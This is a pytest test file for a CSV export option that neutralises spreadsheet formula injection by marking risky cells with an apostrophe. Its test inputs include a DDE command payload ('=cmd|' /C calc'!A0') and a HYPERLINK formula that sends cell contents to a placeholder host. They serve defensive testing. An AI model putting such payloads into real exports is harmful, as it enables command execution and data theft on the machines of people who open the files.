"""`output.spreadsheet_safe`: a CSV in which a spreadsheet finds text and no formula, and nothing else changed."""

import csv
import json
import re
import tempfile
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from batchchat.read.source import open_source
from batchchat.records import Answer, Completion
from batchchat.write.columns import answer_columns, plan_output
from batchchat.write.sink import Sink
from tests.running import batchchat, write_job

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)


def _written(source: Path, contents: Sequence[str], name: str = "out.csv", *, is_safe: bool) -> Path:
    """Write the source's rows with these answers, and return the output."""
    opened = open_source(source)
    plan = replace(plan_output(opened.columns, keep=None, rename={}, prefix="llm_"), spreadsheet_safe=is_safe)
    output = source.parent / name
    with Sink(output, plan, opened.schema) as sink:
        start = 0
        for batch in opened.batches():
            answers = [Answer(Completion(text), b"", 0.5, 1) for text in contents[start : start + len(batch.rows)]]
            sink.write(batch, answer_columns(answers, plan))
            start += len(batch.rows)
    return output


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def _cell(folder: Path, text: str) -> str:
    """Return the cell of an answer in a safe CSV."""
    source = folder / "in.csv"
    source.write_text("id\n1\n")
    rows = _rows(_written(source, [text], is_safe=True))
    return rows[1][rows[0].index("llm_completion")]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://h/?x="&A1,"click")',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\tplain",
        "\r=1+1",
        "\rplain",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\u3000 =1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\uff1d1+1",
        "\uff0b1+1",
        "\uff0d1+1",
        "\uff20SUM(A1)",
        "-5%",
        "+49 170 1234567",
        "- a list\n- of points",
        "-",
        "-5\n",
        " -5",
        "-0x1F",
        "-inf",
        "-\u0665",
    ],
)
def test_text_that_begins_a_formula_is_marked(tmp_path: Path, text: str) -> None:
    """The mark is `'`, and what follows is the text as the model wrote it."""
    assert _cell(tmp_path, text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "-5",
        "+3.2e-4",
        "-.5",
        "-5.",
        "-1E10",
        "",
        "a=b",
        "1+1",
        "'=1",
        '"=1"',
        "a\n=1+1",
        "a;b - c",
        "a\tb",
        "a|=1",
        "é",
        " a",
    ],
)
def test_any_other_text_stays(tmp_path: Path, text: str) -> None:
    """Plain numbers are no formulas, nor is what stands further in: a quoted cell is one cell, line ends or not."""
    assert _cell(tmp_path, text) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("x;=1+1;y;-2", "x;'=1+1;y;'-2"),
        ('x;"=1+1', "x;\"'=1+1"),
        ("x; \u200b@SUM(A1)", "x; \u200b'@SUM(A1)"),
        ("x\t\uff1d1", "x\t'\uff1d1"),
        ("=1;=2", "'=1;'=2"),
        (";=1", ";'=1"),
        ("\t=1+1", "'\t'=1+1"),
    ],
)
def test_formula_behind_another_separator_is_marked(tmp_path: Path, text: str, written: str) -> None:
    """Where `;` separates cells, as in much of Europe, quotes within a line begin none, and the text is cut there."""
    assert _cell(tmp_path, text) == written
    for line in (tmp_path / "out.csv").read_text().splitlines():
        for cell in re.split("[;\t]", line):
            assert not cell.lstrip(' "\u200b').startswith(TRIGGERS)


def test_every_text_of_a_safe_file_is_quoted(tmp_path: Path) -> None:
    """No separator or line end in it cuts it; numbers are not quoted, null is empty, other files are as ever."""
    source = tmp_path / "in.jsonl"
    source.write_text('{"a;b": "x;y", "n": 1}\n{"a;b": null, "n": null}\n{"a;b": "", "n": -2}\n')
    safe = _written(source, ["a|b", "a\tb", "plain"], "safe.csv", is_safe=True).read_text().splitlines()
    plain = _written(source, ["a|b", "a\tb", "plain"], "plain.csv", is_safe=False).read_text().splitlines()
    assert [line.split(",")[:3] for line in safe] == [
        ['"a;b"', '"n"', '"llm_completion"'],
        ['"x;y"', "1", '"a|b"'],
        ["", "", '"a\tb"'],
        ['""', "-2", '"plain"'],
    ]
    assert plain[1].startswith("x;y,1,a|b,")


def test_input_cells_and_names_are_marked_too(tmp_path: Path) -> None:
    """A cell of the input came from anybody; numbers and booleans of any column stay as they are."""
    source = tmp_path / "in.csv"
    source.write_text('"=name",number,flag,mixed\n"=cmd|\' /C calc\'!A0",-5,true,-5\n"@x",-1.50,false,"-5,0"\n')
    header, *rows = _rows(_written(source, ["a", "b"], is_safe=True))
    assert header[:4] == ["'=name", "number", "flag", "mixed"]
    assert [row[:4] for row in rows] == [
        ["'=cmd|' /C calc'!A0", "-5", "true", "-5"],
        ["'@x", "-1.50", "false", "'-5,0"],
    ]


def test_typed_columns_stay(tmp_path: Path) -> None:
    """Negative numbers, decimals and durations of a Parquet input are no text; nulls stay empty, and text is marked."""
    source = tmp_path / "in.parquet"
    frame = pl.DataFrame(
        {"i": [-1, None], "f": [-0.5, None], "t": ["=x", None], "c": ["@y", None], "l": [["=z"], None]}
    )
    types = {"i": pl.Decimal(10, 2), "c": pl.Categorical()}
    frame.with_columns(pl.duration(seconds="i").alias("d"), pl.col("i").cast(types["i"]), pl.col("c").cast(types["c"]))[
        ["i", "f", "t", "c", "l", "d"]
    ].write_parquet(source)
    rows = _rows(_written(source, ["a", "b"], is_safe=True))
    assert [row[:6] for row in rows[1:]] == [["-1.00", "-0.5", "'=x", "'@y", '["=z"]', "-1"], [""] * 6]


CELL = st.text(st.sampled_from([*TRIGGERS, " ", "\u00a0", "'", '"', ",", "1", "5", ".", "e", "x", "é"]), max_size=6)
ANY_CELL = CELL | st.text(st.characters(codec="utf-8"), max_size=8)


@pytest.mark.slow
@settings(max_examples=60)
@given(st.lists(st.tuples(ANY_CELL, ANY_CELL), min_size=1, max_size=5))
def test_no_cell_of_a_safe_file_begins_a_formula(cells: list[tuple[str, str]]) -> None:
    """Whatever the input and the model say, each cell is a plain number or begins with none of the signs."""
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder, "in.jsonl")
        source.write_text("".join(json.dumps({"=a": cell}) + "\n" for cell, _ in cells))
        answers = [answer for _, answer in cells]
        safe = _rows(_written(source, answers, is_safe=True))
        plain = _rows(_written(source, answers, is_safe=False))
    for cell in (cell for row in safe for cell in row):
        assert NUMBER.fullmatch(cell) or not cell.lstrip().startswith(TRIGGERS)
        assert NUMBER.fullmatch(cell) or not cell.startswith(TRIGGERS)
    pairs = {(new, old) for one, other in zip(safe, plain, strict=True) for new, old in zip(one, other, strict=True)}
    assert all(new in (old, f"'{old}") for new, old in pairs if "\t" not in old and ";" not in old)
    assert all(new.replace("'", "") == old.replace("'", "") for new, old in pairs)


def _run(folder: Path, output: str, **options: Any) -> Path:
    """Run a job over two rows whose answers a spreadsheet would evaluate, and return the output."""
    (folder / "rows.csv").write_text('id,text\n1,"=1+1"\n2,-5\n')
    request = {"model": "stand-in", "messages": [{"role": "user", "content": "Repeat: {{ text }}"}]}
    job = write_job(folder, output={"path": output, **options}, request=request)
    ended = batchchat("run", job, "--quiet")
    assert ended.code == 0, ended.stderr
    return folder / output


@pytest.mark.slow
def test_whole_run_writes_a_safe_file(tmp_path: Path) -> None:
    """The setting of the job reaches the file: input cells and answers, and only by it."""
    safe = list(csv.DictReader(_run(tmp_path, "safe.csv", spreadsheet_safe=True).read_text().splitlines()))
    plain = list(csv.DictReader(_run(tmp_path, "plain.csv").read_text().splitlines()))
    assert [row["text"] for row in safe] == ["'=1+1", "-5"]
    assert [row["text"] for row in plain] == ["=1+1", "-5"]
    for new, old in zip(safe, plain, strict=True):
        is_formula = old["completion"].startswith(TRIGGERS) and not NUMBER.fullmatch(old["completion"])
        assert new["completion"] == ("'" if is_formula else "") + old["completion"]


@pytest.mark.parametrize("name", ["out.jsonl", "out.parquet"])
def test_other_formats_are_the_same_with_it(tmp_path: Path, name: str) -> None:
    """What programs read keeps every byte."""
    source = tmp_path / "in.csv"
    source.write_text('"=a",b\n"=1+1",-5\n"@x",1\n')
    safe = _written(source, ["=1", "-x"], f"safe-{name}", is_safe=True)
    assert safe.read_bytes() == _written(source, ["=1", "-x"], f"plain-{name}", is_safe=False).read_bytes()
